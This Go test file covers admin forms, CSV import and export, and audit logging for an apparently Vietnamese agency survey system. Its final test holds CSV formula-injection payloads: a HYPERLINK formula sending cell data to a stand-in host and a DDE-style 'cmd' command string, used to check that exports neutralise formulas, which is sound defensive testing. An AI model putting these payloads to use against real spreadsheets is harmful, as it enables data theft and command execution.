package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/sipas-vn/sipas/server/sqlite"
)

// upload posts a CSV file to the import form.
func (a *adminClient) upload(path, name, content string) *httptest.ResponseRecorder {
	a.t.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	w.WriteField("csrf", a.csrf)
	if name != "" {
		f, _ := w.CreateFormFile("file", name)
		f.Write([]byte(content))
	}
	w.Close()
	req := httptest.NewRequest(http.MethodPost, path, &body)
	req.Header.Set("Content-Type", w.FormDataContentType())
	req.AddCookie(a.ck)
	rec := httptest.NewRecorder()
	a.s.Handler().ServeHTTP(rec, req)
	return rec
}

func TestAdminAgencyForms(t *testing.T) {
	s, a := adminSetup(t)
	ctx := context.Background()
	cases := []struct {
		name, path string
		form       url.Values
		status     int
		want       string // on the page shown (after the redirect for a success)
	}{
		{"create", "/admin/agencies", url.Values{"code": {"h17.1"}, "name_vi": {"Sở Nội vụ"}, "kind": {"so"}, "parent": {"H17"}}, 303, "Đã thêm cơ quan H17.1"},
		{"create with a bad code", "/admin/agencies", url.Values{"code": {"H17 1"}, "name_vi": {"X"}, "kind": {"so"}}, 422, `href="#code"`},
		{"create with a duplicate code", "/admin/agencies", url.Values{"code": {"H17"}, "name_vi": {"X"}, "kind": {"so"}}, 422, "Đã có cơ quan mang mã định danh H17"},
		{"create without a name", "/admin/agencies", url.Values{"code": {"H17.2"}, "kind": {"so"}}, 422, `href="#name_vi"`},
		{"create with an unknown kind", "/admin/agencies", url.Values{"code": {"H17.2"}, "name_vi": {"X"}, "kind": {"benh_vien"}}, 422, `href="#kind"`},
		{"create under an unknown parent", "/admin/agencies", url.Values{"code": {"H17.2"}, "name_vi": {"X"}, "kind": {"so"}, "parent": {"H99"}}, 422, `href="#parent"`},
		{"rename", "/admin/agencies/H17.1", url.Values{"name_vi": {"Sở Nội vụ TP Cần Thơ"}, "kind": {"so"}}, 303, "Sở Nội vụ TP Cần Thơ"},
		{"rename to nothing", "/admin/agencies/H17.1", url.Values{"name_vi": {""}, "kind": {"so"}}, 422, `href="#name_vi"`},
		{"move under its own child", "/admin/agencies/H17/move", url.Values{"parent": {"H17.1"}}, 422, `href="#move-parent"`},
		{"survey with a bad date", "/admin/agencies/H17.1/survey", url.Values{"survey": {"sipas-dv-2023"}, "from_date": {"1/11/2026"}}, 422, `href="#survey-from_date"`},
		{"survey", "/admin/agencies/H17.1/survey", url.Values{"survey": {"sipas-dv-2023"}, "from_date": {"2026-11-01"}}, 303, "2026-11-01"},
		{"counter", "/admin/agencies/H17.1/counters", url.Values{"code": {"NV-01"}, "number": {"1"}, "name_vi": {"Quầy Nội vụ"}, "idle_seconds": {"60"}, "idle_warning": {"20"}}, 303, "NV-01"},
		{"counter with a taken code", "/admin/agencies/H17.1/counters", url.Values{"code": {"ct-01"}, "name_vi": {"Q"}, "idle_seconds": {"60"}, "idle_warning": {"20"}}, 422, `href="#counter-code"`},
		{"counter with a bad idle time", "/admin/agencies/H17.1/counters", url.Values{"code": {"NV-02"}, "name_vi": {"Q"}, "idle_seconds": {"0"}, "idle_warning": {"20"}}, 422, `href="#counter-idle_seconds"`},
		{"officer", "/admin/agencies/H17.1/officers", url.Values{"code": {"NV01"}, "name": {"Trần Thị Bình"}}, 303, "Trần Thị Bình"},
		{"officer at another agency's counter", "/admin/agencies/H17.1/officers", url.Values{"code": {"NV02"}, "name": {"X"}, "counter": {"1"}}, 422, `href="#officer-counter"`},
		{"close with a bad date", "/admin/agencies/H17.1/close", url.Values{"valid_to": {"hôm qua"}}, 422, `href="#close-valid_to"`},
		{"merge without a successor", "/admin/agencies/H17.1/merge", url.Values{"valid_to": {"2025-06-30"}}, 422, `href="#merge-successor"`},
		{"merge into its own child", "/admin/agencies/H17/merge", url.Values{"successor": {"H17.1"}, "valid_to": {"2025-06-30"}}, 422, `href="#merge-successor"`},
	}
	for _, tc := range cases {
		rec, next := a.follow(tc.path, tc.form)
		if rec.Code != tc.status {
			t.Errorf("%s: %d, want %d\n%s", tc.name, rec.Code, tc.status, rec.Body.String())
			continue
		}
		page := rec.Body.String()
		if next != nil {
			page = next.Body.String()
		}
		if !strings.Contains(page, tc.want) {
			t.Errorf("%s: the page lacks %q", tc.name, tc.want)
		}
		if tc.status == 422 && !strings.Contains(page, `class="error-summary"`) {
			t.Errorf("%s: no error summary", tc.name)
		}
	}
	// H17.1 merges into a new open agency H18; its history then counts under H18.
	a.post("/admin/agencies", url.Values{"code": {"H18"}, "name_vi": {"UBND TP mới"}, "kind": {"ubnd_tinh"}})
	if rec := a.post("/admin/agencies/H17.1/merge", url.Values{"successor": {"H18"}, "valid_to": {"2025-06-30"}}); rec.Code != 303 {
		t.Fatalf("merge: %d %s", rec.Code, rec.Body.String())
	}
	old, _ := s.DB.AgencyByCode(ctx, "H17.1")
	h18, _ := s.DB.AgencyByCode(ctx, "H18")
	if old.SuccessorID != h18.ID || old.ValidTo != "2025-06-30" {
		t.Errorf("after merge: %+v", old)
	}
	if sid, _ := s.DB.SurveyFor(ctx, old.ID); sid != "sipas-dv-2023" {
		t.Errorf("survey assignment not in force: %q", sid)
	}
	log, _ := s.DB.AuditLog(ctx, sqlite.AuditFilter{Actor: "quantri"})
	actions := map[string]int{}
	for _, e := range log {
		actions[e.Action]++
	}
	for act, n := range map[string]int{"agency.create": 2, "agency.update": 1, "agency.survey": 1, "counter.create": 1, "officer.create": 1, "agency.merge": 1} {
		if actions[act] != n {
			t.Errorf("audit %s: %d entries, want %d (%v)", act, actions[act], n, actions)
		}
	}
}

func TestAdminImportAndExport(t *testing.T) {
	s, a := adminSetup(t)
	ctx := context.Background()
	bad := "code,legacy_code,name_vi,name_en,kind,parent_code\n" +
		"H17.10,,Trung tâm,,ttpvhcc_tinh,H17\n" +
		"H17.11,,,,so,H17\n" +
		"H17.12,,Sở,,so,H404\n"
	rec := a.upload("/admin/agencies/import", "agencies.csv", bad)
	body := rec.Body.String()
	if rec.Code != 422 || !strings.Contains(body, "Tệp có 2 lỗi") || !strings.Contains(body, "<td>3</td><td><code>name_vi</code></td>") ||
		!strings.Contains(body, "<td>4</td><td><code>parent_code</code></td>") {
		t.Errorf("bad file: %d\n%s", rec.Code, body)
	}
	if _, err := s.DB.AgencyByCode(ctx, "H17.10"); err == nil {
		t.Error("the valid row of a bad file was stored")
	}
	if rec := a.upload("/admin/agencies/import", "", ""); rec.Code != 422 || !strings.Contains(rec.Body.String(), `href="#file"`) {
		t.Errorf("no file: %d", rec.Code)
	}
	good := "code,legacy_code,name_vi,name_en,kind,parent_code\n" +
		"H17.10.1,,UBND phường Ninh Kiều,,ubnd_xa,H17.10\n" +
		"H17.10,,Trung tâm PVHCC,,ttpvhcc_tinh,H17\n"
	rec = a.upload("/admin/agencies/import", "agencies.csv", good)
	if rec.Code != 303 {
		t.Fatalf("good file: %d %s", rec.Code, rec.Body.String())
	}
	rec = a.get("/admin/agencies/export.csv")
	if rec.Code != 200 || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") ||
		!strings.Contains(rec.Body.String(), "H17.10.1,,UBND phường Ninh Kiều,,ubnd_xa,H17.10\n") {
		t.Errorf("export: %d %s", rec.Code, rec.Body.String())
	}
	if rec := a.get("/admin/agencies"); !strings.Contains(rec.Body.String(), `class="depth-2">UBND phường Ninh Kiều`) {
		t.Errorf("the tree does not indent the ward under the centre")
	}
}

// TestAdminCSVsNeverCarryFormulas: an agency named like a formula is
// written as text in agencies.csv and audit.csv (a spreadsheet would run
// =HYPERLINK(...) otherwise), and the export still imports back unchanged.
func TestAdminCSVsNeverCarryFormulas(t *testing.T) {
	s, a := adminSetup(t)
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
	if rec := a.post("/admin/agencies", url.Values{"code": {"H17.9"}, "name_vi": {evil}, "name_en": {"@SUM(1+1)*cmd|' /C calc'!A0"},
		"kind": {"so"}, "parent": {"H17"}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("create: %d", rec.Code)
	}
	for _, path := range []string{"/admin/agencies/export.csv", "/admin/audit.csv"} {
		rec := a.get(path)
		rows, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
		if rec.Code != http.StatusOK || err != nil || len(rows) < 2 {
			t.Fatalf("%s: %d %v", path, rec.Code, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("%s: a cell starts a formula: %q", path, cell)
				}
			}
		}
		if path == "/admin/agencies/export.csv" {
			if !strings.Contains(rec.Body.String(), `'=HYPERLINK(`) {
				t.Errorf("the name is not kept as text:\n%s", rec.Body)
			}
			if rec := a.upload("/admin/agencies/import", "agencies.csv", rec.Body.String()); rec.Code != http.StatusSeeOther {
				t.Errorf("re-import of the export: %d", rec.Code)
			}
		}
	}
	ag, err := s.DB.AgencyByCode(context.Background(), "H17.9")
	if err != nil || ag.Name["vi"] != evil || ag.Name["en"] != "@SUM(1+1)*cmd|' /C calc'!A0" {
		t.Errorf("after export and import: %+v %v", ag, err)
	}
}
